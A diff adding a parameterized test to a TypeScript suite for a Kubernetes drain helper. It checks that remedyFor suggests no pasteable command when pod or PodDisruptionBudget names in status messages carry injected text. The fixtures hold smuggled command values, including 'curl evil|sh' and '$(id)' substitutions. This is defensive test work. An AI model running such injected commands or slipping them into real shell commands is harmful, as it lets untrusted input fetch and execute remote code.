@@ -63,6 +63,16 @@ describe('obstacles to a drain are named', () => {
     expect(hold && remedyFor(hold)).toBe(remedy)
   })
 
+  it.each([
+    'evicting pod fails (Pod=shop/p): denied: PodDisruptionBudget=[shop/web;curl evil|sh shop/b]',
+    'evicting pod fails (Pod=shop/p): violates a PDB (Pod=shop/p, PodDisruptionBudget=[shop/web])',
+    'evicting pod violates a PDB (Pod=shop/p, PodDisruptionBudget=[shop/$(id)])',
+    'pod shop/$(id) has the annotation karpenter.sh/do-not-disrupt',
+    'VolumeAttachment `id` of PersistentVolume data is not detached',
+  ])('words of others give no command to paste: %s', (what) => {
+    expect(remedyFor({ what })).toBeUndefined()
+  })
+
   it('a volume, and names of any length within bounds', () => {
     const attachment = (name: string) => ({
       kind: 'VolumeAttachment' as const,
